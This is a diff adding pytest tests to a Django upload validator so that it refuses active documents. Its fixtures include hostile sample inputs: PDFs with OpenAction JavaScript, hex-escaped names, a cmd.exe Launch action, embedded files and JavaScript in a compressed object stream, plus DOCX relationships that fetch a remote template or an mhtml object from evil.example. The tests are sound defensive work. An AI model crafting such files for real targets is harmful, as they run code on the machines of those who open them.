@@ -1,6 +1,7 @@
 import io
 import struct
 import zipfile
+import zlib
 
 import pytest
 from django.core.exceptions import ValidationError
@@ -211,3 +212,82 @@ def test_a_nomination_with_a_macro_document_is_refused_beside_the_field(client, 
 
     assert response.context["form"].errors["attachments"] == [MACROS.format("plan.docx")]
     assert Attachment.objects.count() == 0
+
+
+ACTIVE = "The file {} contains scripts, links to files elsewhere or embedded files, which could act when it is opened, so we do not accept it. Save or print it as a new plain document (PDF, DOCX or ODT) and add it again."  # noqa: E501
+
+
+def object_stream(dictionaries: bytes) -> bytes:
+    """A PDF whose objects sit compressed in an object stream, as PDF 1.5 writers make them."""
+    packed = zlib.compress(dictionaries)
+    return (
+        b"%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
+        + str(len(packed)).encode()
+        + b" >>\nstream\n"
+        + packed
+        + b"\nendstream\nendobj\n%%EOF\n"
+    )
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj",
+        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript /J#53 (x) >> >> endobj",
+        b"%PDF-1.4\n1 0 obj << /A << /S /Launch /F (cmd.exe) >> >> endobj",
+        b"%PDF-1.4\n1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >> endobj",
+        object_stream(b"2 0 << /S /JavaScript /JS (this.exportDataObject()) >>"),
+    ],
+    ids=["javascript", "escaped-names", "launch", "embedded-file", "in-an-object-stream"],
+)
+def test_a_pdf_that_acts_when_opened_is_refused(content):
+    """A helper's attack: a PDF that ran JavaScript and held a launch action was accepted, and
+    finance opens bank proofs in a PDF reader."""
+    with pytest.raises(ValidationError) as caught:
+        check_upload(upload("statement.pdf", content))
+
+    assert caught.value.messages == [ACTIVE.format("statement.pdf")]
+
+
+def test_a_pdf_with_compressed_objects_and_nothing_active_is_accepted():
+    content = object_stream(b"2 0 << /Type /Page /Contents 3 0 R /Annots [] >>")
+
+    assert check_upload(upload("report.pdf", content)).kind == "pdf"
+
+
+REMOTE_TEMPLATE = (
+    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+    b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
+    b'TargetMode="External"/></Relationships>'
+)
+LINKED_OBJECT = (
+    b"<Relationships><Relationship Id='rId9' Type='http://schemas.openxmlformats.org/"
+    b"officeDocument/2006/relationships/oleObject' Target='mhtml:https://evil.example/x!x' "
+    b"TargetMode='External'/></Relationships>"
+)
+HYPERLINK = (
+    b'<Relationships><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
+    b'officeDocument/2006/relationships/hyperlink" Target="https://ecpat.org/report" '
+    b'TargetMode="External"/></Relationships>'
+)
+
+
+@pytest.mark.parametrize(
+    ("part", "relationships"),
+    [
+        ("word/_rels/settings.xml.rels", REMOTE_TEMPLATE),
+        ("word/_rels/document.xml.rels", LINKED_OBJECT),
+    ],
+    ids=["remote-template", "linked-object"],
+)
+def test_a_word_document_that_fetches_something_when_opened_is_refused(part, relationships):
+    with pytest.raises(ValidationError) as caught:
+        check_upload(upload("letter.docx", zipped(WORD | {part: relationships})))
+
+    assert caught.value.messages == [ACTIVE.format("letter.docx")]
+
+
+def test_a_word_document_with_links_to_the_web_is_accepted():
+    members = WORD | {"word/_rels/document.xml.rels": HYPERLINK}
+
+    assert check_upload(upload("letter.docx", zipped(members))).kind == "docx"
